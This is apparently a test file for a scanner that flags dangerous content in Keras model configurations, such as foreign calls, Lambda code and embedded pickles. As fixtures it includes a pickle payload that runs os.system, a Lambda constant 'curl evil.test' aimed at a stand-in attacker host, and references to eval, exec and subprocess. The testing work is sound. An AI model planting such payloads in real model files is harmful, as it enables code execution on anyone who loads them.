// The inspector of Keras configurations: what it claims, what it says, what it passes over.
import { describe, expect, it } from 'vitest';
import type { Bytes } from '../../../src/core/bytes.ts';
import { loadRules } from '../../../src/core/rulebook.ts';
import { kerasConfigInspector } from '../../../src/inspect/keras/config.ts';
import { code, list, text } from '../../format/marshal/build.ts';
import { inspectKeras, rulesOf } from './inspect.ts';

const layer = (module: string | null, class_name: string, more: object = {}): object => ({
  module,
  class_name,
  config: {},
  ...more,
});
const model = (...layers: readonly object[]): object => ({
  module: 'keras',
  class_name: 'Sequential',
  config: { name: 'm', layers },
  registered_name: null,
});
const call = (module: string, config: string): object => ({
  module,
  class_name: 'function',
  config,
  registered_name: 'function',
});
const marshalled = (...names: readonly string[]): string =>
  code({ names: list(...names.map((name) => text(name))), constants: list(text('curl evil.test')) }).toString(
    'base64',
  );
const lambda = (...names: readonly string[]): object =>
  layer('keras.layers', 'Lambda', {
    config: { name: 'l1', function: layer(null, '__lambda__', { config: { code: marshalled(...names) } }) },
  });

describe('the names in a configuration', () => {
  it.each([
    ['a layer of Keras', layer('keras.layers', 'Dense')],
    [
      'a class of its source tree',
      layer('keras.src.models.functional', 'Functional', { registered_name: 'Functional' }),
    ],
    ['a class of the older package', layer('tensorflow.python.keras.layers', 'Dense')],
    [
      'a class of KerasHub',
      layer('keras_hub.src.models.bert.bert_backbone', 'BertBackbone', {
        registered_name: 'keras_hub>BertBackbone',
      }),
    ],
    ['an operation as a layer', layer('keras.src.ops.numpy', 'GetItem')],
    ['an optimizer as TensorFlow 2.11 registered it', { class_name: 'Custom>Adam', config: {} }],
    ['an optimizer in lower case', { class_name: 'adam', config: {} }],
    [
      'an activation by its function',
      layer('keras.layers', 'Dense', { config: { activation: call('builtins', 'relu') } }),
    ],
    ['a loss', call('keras.losses', 'mean_squared_error')],
    ['a tuple', { class_name: '__tuple__', items: [1, 2] }],
    [
      'a tensor type',
      {
        class_name: '__typespec__',
        spec_name: 'TensorSpec',
        module: 'tensorflow.python.framework.tensor_spec',
        config: [],
      },
    ],
    ['a scope in a name', layer('keras.layers', 'Dense', { config: { name: 'a/b..c' } })],
  ])('passes over %s', async (_, inner) => {
    expect(await rulesOf(model(inner))).toEqual([]);
  });

  it.each([
    ['KERAS-FOREIGN-CALL', layer('subprocess', 'Popen')],
    ['KERAS-FOREIGN-CALL', call('os', 'system')],
    ['KERAS-FOREIGN-CALL', call('builtins', 'eval')],
    ['KERAS-FOREIGN-CALL', layer('builtins', 'exec')],
    ['KERAS-FOREIGN-CALL', call('pickle', 'loads')],
    ['KERAS-FOREIGN-STDLIB', layer('antigravity', 'Layer')],
    ['KERAS-FOREIGN-STDLIB', call('textwrap', 'dedent')],
    ['KERAS-CUSTOM-CODE', layer('acme', 'Layer')],
    ['KERAS-CUSTOM-CODE', layer('kerasx.layers', 'Dense')],
    ['KERAS-CUSTOM-CODE', layer('__main__', 'MyLayer', { registered_name: 'Custom>MyLayer' })],
    ['KERAS-CUSTOM-CODE', layer('keras.layers', 'Dense', { registered_name: 'evil>Dense' })],
    ['KERAS-CUSTOM-CODE', { class_name: 'MyLayer', config: {} }],
    ['KERAS-CUSTOM-CODE', call('builtins', 'my_loss')],
    ['KERAS-GADGET', call('keras.utils', 'get_file')],
    ['KERAS-GADGET', layer('keras.saving', 'load_model')],
    ['KERAS-GADGET', call('keras.activations', 'deserialize')],
    ['KERAS-UNSAFE-SWITCH', call('keras.config', 'enable_unsafe_deserialization')],
    ['KERAS-NON-MODEL-API', call('keras.src.utils.file_utils', 'os')],
    ['KERAS-NON-MODEL-API', call('keras.src.saving.saving_lib', 'ZipFile')],
    ['KERAS-NON-MODEL-API', call('keras.ops', '__loader__')],
  ])('fires %s for %j', async (rule, inner) => {
    expect(await rulesOf(model(inner))).toEqual([rule]);
  });

  it('looks into wrapped layers, compile settings and what stands anywhere else', async () => {
    const evil = layer('os', 'system');
    const wrapped = layer('keras.layers', 'Bidirectional', {
      config: { layer: layer('keras.layers', 'TimeDistributed', { config: { layer: evil } }) },
    });
    expect(await rulesOf(model(wrapped))).toEqual(['KERAS-FOREIGN-CALL']);
    expect(await rulesOf({ ...model(), compile_config: { metrics: [[evil]] } })).toEqual([
      'KERAS-FOREIGN-CALL',
    ]);
    expect(await rulesOf({ ...model(), build_config: { a: { b: evil } } })).toEqual(['KERAS-FOREIGN-CALL']);
  });

  it('lets the policy allow exact names', async () => {
    expect(await rulesOf(model(layer('acme', 'Layer')), ['acme.Layer'])).toEqual([]);
    const registered = (module: string | null): object =>
      model(layer(module, 'Layer', { registered_name: 'acme>Layer' }));
    expect(await rulesOf(registered(null), ['acme>Layer'])).toEqual([]);
    expect(await rulesOf(registered('other'), ['acme>Layer'])).toEqual(['KERAS-CUSTOM-CODE']);
    expect(await rulesOf(model(call('os', 'system')), ['os.system'])).toEqual(['KERAS-FOREIGN-CALL']);
    expect(await rulesOf(model(layer('acme', 'Other')), ['acme.Layer'])).toEqual(['KERAS-CUSTOM-CODE']);
  });
});

describe('code in a configuration', () => {
  it('says what the code uses', async () => {
    const { findings } = await inspectKeras(Buffer.from(JSON.stringify(model(lambda('os', 'system')))));
    expect(findings).toMatchObject([{ rule: 'KERAS-LAMBDA-CODE', severity: 'CRITICAL' }]);
    expect(findings[0]?.evidence).toBe(
      'Lambda layer "l1" carries Python code that uses os, system ("curl evil.test") (config.json)',
    );
  });

  it('tells arithmetic from the rest', async () => {
    expect(await rulesOf(model(lambda()))).toEqual(['KERAS-LAMBDA-ARITHMETIC']);
    expect(await rulesOf(model(lambda('K', 'mean', 'tf', 'float32')))).toEqual(['KERAS-LAMBDA-ARITHMETIC']);
    expect(await rulesOf(model(lambda('tf', 'io', 'write_file')))).toEqual(['KERAS-LAMBDA-CODE']);
    expect(await rulesOf(model(lambda('x', '__class__')))).toEqual(['KERAS-LAMBDA-CODE']);
  });

  it('is the same finding wherever the layer stands', async () => {
    const subjects = async (...layers: readonly object[]): Promise<string[]> =>
      (await inspectKeras(Buffer.from(JSON.stringify(model(...layers))))).findings.map(
        ({ subject }) => subject,
      );
    expect(await subjects(lambda('os'))).toEqual(
      await subjects(layer('keras.layers', 'Dense'), lambda('os'), lambda('os')),
    );
  });
});

describe('what the configuration hands over', () => {
  it('inspects a pickled PyTorch module in its turn', async () => {
    const pickle = Buffer.from('cos\nsystem\n(S"id"\ntR.').toString('base64');
    const { findings, coverage } = await inspectKeras(
      Buffer.from(
        JSON.stringify(model(layer('keras.layers', 'TorchModuleWrapper', { config: { module: pickle } }))),
      ),
    );
    expect(findings.map(({ rule }) => rule)).toContain('KERAS-TORCH-MODULE');
    expect(findings.find(({ rule }) => rule.startsWith('PICKLE-'))).toMatchObject({ severity: 'CRITICAL' });
    expect(coverage.map(({ format }) => format)).toEqual(['keras-config', 'pickle']);
  });

  it('takes a vocabulary in text for a path', async () => {
    const lookup = (vocabulary: unknown): object =>
      layer('keras.layers', 'StringLookup', { config: { vocabulary } });
    expect(await rulesOf(model(lookup('gs://bucket/words')))).toEqual(['KERAS-FILE-ARGUMENT']);
    expect(await rulesOf(model(lookup(['a'])))).toEqual([]);
    expect(await rulesOf(model(lookup(null)))).toEqual([]);
  });

  it.each([
    [['KERAS-TF-OP'], 'io.read_file'],
    [['KERAS-TF-OP'], 'tf.py_function'],
    [['KERAS-CUSTOM-CODE'], 'something_new'],
    [[], 'math.reduce_sum'],
    [[], '__operators__.getitem'],
  ])('fires %j for the TensorFlow function %s', async (rules, name) => {
    expect(await rulesOf(model({ class_name: 'TFOpLambda', config: { function: name } }))).toEqual(rules);
  });

  it('reads a TensorFlow node that is written as text', async () => {
    const node = {
      class_name: 'TensorFlowOpLayer',
      config: { node_def: '{\n  "name": "x",\n  "op": "WriteFile"\n}' },
    };
    expect(await rulesOf(model(node))).toEqual(['KERAS-TF-OP']);
  });
});

describe('the place of a finding', () => {
  it('is the byte where the object begins, whatever stands before it', async () => {
    const data = Buffer.from(
      `{"class_name": "Sequential", "note": "äöü𝄞", "config": [{"module": "os", "class_name": "system"}]}`,
    );
    const { findings } = await inspectKeras(data);
    expect(findings[0]?.location.offset).toBe(data.indexOf('{"module"'));
  });

  it('is left out where bytes and characters cannot be matched', async () => {
    const data = Buffer.from(JSON.stringify(model(layer('os', 'system'))), 'utf16le');
    const { findings } = await inspectKeras(data);
    expect(findings).toMatchObject([{ rule: 'KERAS-FOREIGN-CALL' }]);
    expect(findings[0]?.location.offset).toBeUndefined();
  });
});

describe('what it claims', () => {
  const formatOf = async (data: string, path?: string): Promise<string | undefined> =>
    (await inspectKeras(Buffer.from(data), path)).coverage[0]?.format;

  it.each([
    ['keras-config', '{"class_name": "x", "config": {}}', 'config.json'],
    [
      'keras-config',
      '\uFEFF \n{"class_name": "Sequential", "config": [], "keras_version": "2.1"}',
      'model.json',
    ],
    ['keras-config', `${' '.repeat(10_000)}{"cl\\u0061ss_name": "x", "config": {}}`, 'config.json'],
    ['keras-metadata', '{"keras_version": "3.4.1", "date_saved": "now"}', 'metadata.json'],
    ['data', '{"model_type": "bert", "architectures": []}', 'config.json'],
    ['data', '[{"class_name": "x", "config": {}}]', 'config.json'],
    ['json', '{"class_name": "com.example.Service", "config": {}}', 'service.json'],
  ])('says %s for %j', async (format, data, path) => {
    expect(await formatOf(data, path)).toBe(format);
  });

  it('tells that its own file is no JSON, and lets others be', async () => {
    const broken = '{"class_name": "x", "config": ';
    expect((await inspectKeras(Buffer.from(broken))).coverage[0]).toMatchObject({ status: 'partial' });
    expect((await inspectKeras(Buffer.from(broken), 'x.json')).coverage[0]).toMatchObject({
      status: 'inspected',
    });
  });

  it('does not read what is larger than any configuration', async () => {
    const head = Buffer.from('{"class_name": "x", "config": {');
    let most = 0;
    const bytes: Bytes = {
      size: 2 ** 40,
      read: (_, length) => {
        most = Math.max(most, length);
        return Promise.resolve(head.subarray(0, length));
      },
    };
    const artifact = { locator: { path: 'm.keras', members: ['config.json'] }, bytes };
    expect(await kerasConfigInspector.recognises(artifact, head)).toBe(true);
    const rules = await loadRules();
    const context = { rules, allowedGlobals: new Set<string>(), openLfs: () => Promise.resolve(undefined) };
    expect((await kerasConfigInspector.inspect(artifact, context)).incomplete).toMatchObject([
      { code: 'budget', risk: 'runs-code' },
    ]);
    expect(most).toBeLessThan(10_000);
  });
});
